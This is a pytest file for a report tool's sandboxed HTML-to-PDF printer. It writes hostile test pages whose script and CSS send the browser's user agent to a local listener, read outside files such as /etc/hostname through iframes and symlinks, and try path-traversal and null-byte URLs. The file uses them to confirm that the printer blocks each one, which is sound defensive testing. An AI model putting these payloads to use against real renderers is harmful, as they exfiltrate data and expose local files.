"""`kcz build --pdf` prints a page without letting it run script, reach the network or read
files outside its own folder (issue #20, attack PDF1), and the PDF still carries the report.

The hostile pages are written here directly, not built: the build's sanitiser would remove most
of their payloads, and the printer's wall must hold on its own. Each payload is shown to be live
by a control: the same pages opened by plain Playwright (script and network on, no policy) do
reach the listener and do show the outside file.

Needs a Chromium, as tests/e2e/test_browser.py does (tests/support/browser.py) (skipped locally without one,
a failure in CI).
"""

from __future__ import annotations

import os
import re
import socketserver
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from kczlib.cli import main

from conftest import REAL_NOTEBOOKS
from support.builds import write_config

pytestmark = pytest.mark.browser

OUTSIDE_TOKEN = "kczOutsideToken41x"   # text of a file outside the page's folder
LINKED_TOKEN = "kczSymlinkToken57q"    # text of an outside file reached through a symlink inside
INSIDE_TOKEN = "kczInsideToken93k"     # text of a file in the page's folder (allowed)
MARKER = "kczHostilePageMarker"        # a heading of the hostile page itself
SCRIPT_TOKEN = "kczScriptRanToken28w"  # text a script of the page adds to it
# the requests each payload makes when it is live (the control proves every one of them)
PAYLOADS = ["script-image", "script-fetch", "img", "css-url", "css-import", "linked-css",
            "font", "shadow-img", "data-iframe-img", "refresh"]


def _chromium() -> str:
    from support.browser import chromium

    return chromium()


class _Listener(socketserver.ThreadingMixIn, HTTPServer):
    """127.0.0.1 on an ephemeral port; records every request path. Its handler threads are
    joined on close (HTTP/1.0: one request per connection), so after `close()` every request
    that reached it is in `paths`."""

    daemon_threads = False
    block_on_close = True

    def __init__(self):
        self.paths: list[str] = []
        self.closed = False
        listener = self

        class Handler(BaseHTTPRequestHandler):
            timeout = 5

            def do_GET(self):
                listener.paths.append(self.path)
                body = b"body{color:black}" if self.path.endswith(".css") else b""
                self.send_response(200)
                self.send_header("Content-Type", "text/css" if body else "image/png")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def wait_for(self, prefix: str, names: list[str], seconds: float = 60) -> set[str]:
        """Poll until a request for each `prefix + name` arrived (or the deadline); the names seen."""
        deadline = time.monotonic() + seconds
        while True:
            seen = {n for n in names if any(p.startswith(f"{prefix}{n}") for p in self.paths)}
            if seen == set(names) or time.monotonic() > deadline:
                return seen
            time.sleep(0.05)

    def close(self):
        if self.closed:
            return
        self.closed = True
        self.shutdown()
        self.server_close()  # joins the handler threads
        self.thread.join(10)


@pytest.fixture
def listener():
    server = _Listener()
    try:
        yield server
    finally:
        server.close()


def _network_page(base: str, tag: str) -> str:
    """A page whose every part tries to reach `base` (paths start with `/<tag>/`)."""
    u = f"{base}/{tag}"
    inner = f"<img src='{u}/data-iframe-img.png'>".replace("<", "%3C").replace(">", "%3E").replace("'", "%27")
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>hostile</title>
<meta http-equiv="refresh" content="0; url={u}/refresh">
<link rel="stylesheet" href="{u}/linked-css.css">
<style>@import url("{u}/css-import.css");
@font-face {{ font-family: Remote; src: url("{u}/font.woff2"); }}
body {{ background-image: url("{u}/css-url.png"); }} h2 {{ font-family: Remote; }}</style>
<script>new Image().src = "{u}/script-image?" + encodeURIComponent(navigator.userAgent);
fetch("{u}/script-fetch");</script>
</head><body><h1>{MARKER}</h1><h2>remote font</h2>
<img src="{u}/img.png" alt="">
<div><template shadowrootmode="open"><img src="{u}/shadow-img.png"></template></div>
<iframe src="data:text/html,{inner}"></iframe>
</body></html>"""


def _files_page(outside: Path) -> str:
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>files</title>
<script>document.addEventListener("DOMContentLoaded", () => document.body.append("{SCRIPT_TOKEN}"));</script>
</head><body><h1>{MARKER}</h1>
<iframe src="{(outside / 'secret.txt').as_uri()}"></iframe>
<iframe src="file:///etc/hostname"></iframe>
<img src="{(outside / 'secret.txt').as_uri()}" alt="">
<iframe src="link.txt"></iframe>
<iframe src="../{outside.name}/secret.txt"></iframe>
<iframe src="inside.txt"></iframe>
</body></html>"""


def _hostile_folder(root: Path, base: str, tag: str) -> Path:
    """`root/site/` with network.html and files.html; `root/outside/` holds the secrets."""
    site, outside = root / "site", root / "outside"
    site.mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.txt").write_text(OUTSIDE_TOKEN + "\n", encoding="utf-8")
    (outside / "linked.txt").write_text(LINKED_TOKEN + "\n", encoding="utf-8")
    (site / "link.txt").symlink_to(outside / "linked.txt")
    (site / "inside.txt").write_text(INSIDE_TOKEN + "\n", encoding="utf-8")
    (site / "network.html").write_text(_network_page(base, tag), encoding="utf-8")
    (site / "files.html").write_text(_files_page(outside), encoding="utf-8")
    (site / "reload.html").write_text(f'<!doctype html><meta charset="utf-8"><meta http-equiv="refresh" '
                                      f'content="0"><h1>{MARKER}</h1>', encoding="utf-8")
    return site


def pdf_text(pdf: Path) -> str:
    """The text layer of `pdf`, all pages, with every whitespace removed (line breaks fall
    anywhere in a long Chinese title)."""
    from pypdf import PdfReader

    return re.sub(r"\s+", "", "".join(page.extract_text() for page in PdfReader(pdf).pages))


def _control(site: Path, listener: _Listener) -> tuple[set[str], str]:
    """The same pages in plain Playwright, script and network on: (payloads seen, files.pdf text)."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:  # Chromium's sandbox cannot start as root
        browser = p.chromium.launch(executable_path=_chromium(), chromium_sandbox=os.geteuid() != 0)
        try:
            page = browser.new_page()
            page.goto((site / "files.html").as_uri())
            (site / "control-files.pdf").write_bytes(page.pdf())
            page.goto((site / "network.html").as_uri())
            seen = listener.wait_for("/control/", PAYLOADS)
        finally:
            browser.close()
    return seen, pdf_text(site / "control-files.pdf")


def test_a_hostile_page_prints_without_script_network_or_outside_files(tmp_path, listener):
    _chromium()
    from kczlib.publish.html.pdf import write_pdfs

    said: list[str] = []
    site = _hostile_folder(tmp_path / "kcz", listener.base, "kcz")
    written = write_pdfs(site, ["network", "files", "not-there", "reload"], said.append)

    control = _hostile_folder(tmp_path / "control", listener.base, "control")
    seen, control_files = _control(control, listener)
    # the payloads are live: each one reached the listener, and the outside files showed
    assert seen == set(PAYLOADS), f"control: payloads that made no request: {set(PAYLOADS) - seen}"
    for token in (OUTSIDE_TOKEN, LINKED_TOKEN, SCRIPT_TOKEN):
        assert token in control_files, (token, control_files)

    listener.close()  # every request that reached it is now recorded
    # (the control's meta refresh lands on the listener's origin, and Chromium then asks it for
    # /favicon.ico; any request of the kcz printer would carry its /kcz/ path)
    assert [p for p in listener.paths if not p.startswith(("/control/", "/favicon.ico"))] == []
    # the kcz printer's pages were printed, the missing one named in one line
    assert written == ["network.pdf", "files.pdf", "reload.pdf"]
    assert [line for line in said if "not-there" in line] == [
        "kcz: --pdf: not-there.html not printed: there is no such page"]
    assert said[-1] == "kcz: --pdf: 3 PDF(s) written"
    assert MARKER in pdf_text(site / "reload.pdf")  # a page that reloads itself is printed once
    network = pdf_text(site / "network.pdf")
    assert MARKER in network  # the page itself, not the refresh target nor an error page
    files = pdf_text(site / "files.pdf")
    assert MARKER in files
    assert INSIDE_TOKEN in files  # its own folder stays readable
    assert OUTSIDE_TOKEN not in files
    assert LINKED_TOKEN not in files
    assert SCRIPT_TOKEN not in files


def test_the_request_rule_admits_only_files_inside_the_pages_folder(tmp_path):
    from kczlib.publish.html.pdf import request_allowed

    folder = (tmp_path / "run").resolve()
    (folder / "sub").mkdir(parents=True)
    (tmp_path / "elsewhere.txt").write_text("x", encoding="utf-8")
    (folder / "out.txt").symlink_to(tmp_path / "elsewhere.txt")
    (folder / "in.txt").write_text("x", encoding="utf-8")
    uri = folder.as_uri()
    assert request_allowed(f"{uri}/in.txt", folder)
    assert request_allowed(f"{uri}/sub/page.html?x=1", folder)
    assert request_allowed(f"file://localhost{folder}/in.txt", folder)
    for url in [f"{uri}/out.txt",                       # a symlink leading out
                f"{uri}/../elsewhere.txt", f"{uri}/%2e%2e/elsewhere.txt", f"{uri}/sub/%2E%2E/%2E%2E/x",
                f"{uri}-sibling/page.html",             # a name that only starts like the folder
                "file:///etc/hostname", f"file://otherhost{folder}/in.txt", f"{uri}/a%00b",
                "http://127.0.0.1/", "https://example.org/x.png", "ws://127.0.0.1:9/",
                "ftp://127.0.0.1/", "chrome://settings", "javascript:alert(1)", "blob:null/1"]:
        assert not request_allowed(url, folder), url


def test_kcz_build_pdf_keeps_the_chinese_title_in_the_text_layer(tmp_path, capsys):
    _chromium()
    config = write_config(tmp_path, [{"notebook": "00_overview"}], langs=["zh"], notebooks=REAL_NOTEBOOKS,
                          warm_imports=["pandas", "matplotlib.pyplot"])
    assert main(["--config", str(config), "build", "-q", "--pdf"]) == 0
    run = tmp_path / "out" / "latest"
    pdf = run / "00_overview-zh.pdf"
    printed = pdf_text(pdf)
    # the heading `overview.title` of narratives/zh.toml, "{city}“科创中国”试点城市建设：概览", for 成都
    assert "成都“科创中国”试点城市建设：概览" in printed
    # a key finding as the page shows it (the first item under the first heading), in Chinese
    from bs4 import BeautifulSoup

    page = BeautifulSoup((run / "00_overview-zh.html").read_text(encoding="utf-8"), "html.parser")
    finding = re.sub(r"\s+", "", page.select_one("main h2").find_next("li").get_text())
    assert re.search(r"[\u4e00-\u9fff]{4}", finding) and finding in printed, finding
    # each sheet's footer: the citation (from the page) and "page / pages"
    from pypdf import PdfReader

    sheets = PdfReader(pdf).pages
    citation = re.sub(r"\s+", "", page.select_one(".kcz-citation").get_text())
    assert printed.count(citation[:24]) >= len(sheets) and f"1/{len(sheets)}" in printed
    # the page links its PDF once the build printed it
    assert page.select_one("header a.kcz-print-link")["href"] == "00_overview-zh.pdf"
    boxes = set(re.findall(rb"/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]", pdf.read_bytes()))
    assert boxes and all(abs(float(w) - 595.3) < 1.5 and abs(float(h) - 841.9) < 1.5 for w, h in boxes), boxes
    err = capsys.readouterr().err
    assert "1 PDF(s) written" in err
    # as root Chromium cannot start its sandbox, and the build says it prints without it
    assert ("cannot use its sandbox" in err) == (os.geteuid() == 0)


def test_printing_works_where_an_asyncio_loop_is_running(tmp_path):
    # as in a Jupyter kernel, or a process that drives its own Playwright session: Playwright's
    # sync API refuses such a thread, so the printer must not use the caller's
    _chromium()
    import asyncio

    from kczlib.publish.html.pdf import write_pdfs

    folder = tmp_path / "报告 run"  # and a folder whose file: URL is percent-encoded
    folder.mkdir()
    (folder / "page.html").write_text(f"<!doctype html><meta charset=utf-8><h1>{MARKER}</h1>", encoding="utf-8")
    said: list[str] = []

    async def inside_a_loop():
        return write_pdfs(folder, ["page"], said.append)

    assert asyncio.run(inside_a_loop()) == ["page.pdf"], said
    assert MARKER in pdf_text(folder / "page.pdf")
